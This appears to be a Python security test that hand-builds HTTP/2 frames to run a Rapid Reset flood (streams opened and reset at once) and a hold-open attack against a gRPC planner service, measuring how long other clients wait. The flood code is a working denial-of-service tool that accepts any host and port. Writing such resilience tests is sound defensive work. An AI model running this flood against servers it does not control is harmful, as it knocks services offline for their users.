"""HTTP/2 streams that are opened and reset at once: what they cost the planner, and who else is still answered.

    python tests/security/rapid_reset.py HOST:PORT [CONNECTIONS] [STREAMS]
"""

import contextlib
import socket
import ssl
import struct
import sys
import threading
import time

import grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
BATCH = 100


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header field that is neither indexed nor compressed."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request_headers(path: str, scheme: str = "http", **more: str) -> bytes:
    fields = [(":method", "POST"), (":scheme", scheme), (":path", path), (":authority", "x"),
              ("content-type", "application/grpc"), ("te", "trailers"), ("filler", "f" * 100), *more.items()]  # fmt: skip
    return b"".join(literal(name, value) for name, value in fields)


@contextlib.contextmanager
def connected(address: str, source: str, tls: ssl.SSLContext | None):
    host, _, port = address.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=30, source_address=(source, 0)) as plain:
        if tls is None:
            yield plain
            return
        with tls.wrap_socket(plain, server_hostname=host) as encrypted:
            yield encrypted


def attack(address: str, streams: int, source: str = "127.0.0.1", tls: ssl.SSLContext | None = None) -> int:
    """Bytes sent before the planner was done, or had closed the connection."""
    headers = request_headers("/stagewright.v1.PlannerService/ListPlanners", "https" if tls else "http")
    sent = 0
    try:
        with connected(address, source, tls) as connection:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            for first in range(0, streams, BATCH):
                block = b""
                for i in range(first, min(first + BATCH, streams)):
                    block += frame(HEADERS, 4, 2 * i + 1, headers)
                    block += frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8))
                connection.sendall(block)
                sent += len(block)
            connection.sendall(frame(PING, 0, 0, b"12345678"))
            connection.settimeout(60)
            # The answer to the ping says that all before it was read.
            while (received := connection.recv(1 << 16)) and b"12345678" not in received:
                pass
    except OSError:
        pass  # It is the planner's right to close what floods it, or to be slow.
    return sent


def held_open(
    stack: contextlib.ExitStack, address: str, connections: int, headers: bytes, message: bytes, streams: int, source: str,
    tls: ssl.SSLContext,
) -> int:  # fmt: skip
    """Connections that live with so many calls each, which have sent their message, until the stack ends."""
    opened = []
    for _ in range(connections):
        with contextlib.suppress(OSError):
            connection = stack.enter_context(connected(address, source, tls))
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            opened.append(connection)
            for stream in range(1, 2 * streams, 2):
                call = struct.pack(">BI", 0, len(message)) + message
                connection.sendall(frame(HEADERS, 4, stream, headers) + frame(DATA, 1, stream, call))
    time.sleep(1)
    living = 0
    for connection in opened:
        connection.settimeout(0.1)
        with contextlib.suppress(TimeoutError, ConnectionError):
            while connection.recv(1 << 16):
                pass
            continue
        living += 1
    return living


def answer_seconds(address: str) -> float:
    start = time.monotonic()
    with grpc.insecure_channel(address) as channel:
        channel.unary_unary("/stagewright.v1.PlannerService/ListPlanners")(b"", timeout=120, wait_for_ready=True)
    return time.monotonic() - start


def flood(address: str, connections: int, streams: int, *, answer=answer_seconds, **of_attack) -> tuple[int, float]:
    """Bytes sent, and the longest time that another client waited for an answer (`answer` asks) meanwhile and after."""
    sent: list[int] = []
    threads = [
        threading.Thread(target=lambda: sent.append(attack(address, streams, **of_attack)), daemon=True)
        for _ in range(connections)
    ]
    for thread in threads:
        thread.start()
    longest = answer(address)
    while any(thread.is_alive() for thread in threads):
        longest = max(longest, answer(address))
    return sum(sent), max(longest, answer(address))


if __name__ == "__main__":
    target, *numbers = sys.argv[1:]
    bytes_sent, seconds = flood(target, *(map(int, numbers) if numbers else (10, 5000)))
    print(f"{bytes_sent / 2**20:.1f} MiB of resets, others waited {seconds:.2f} s at most")
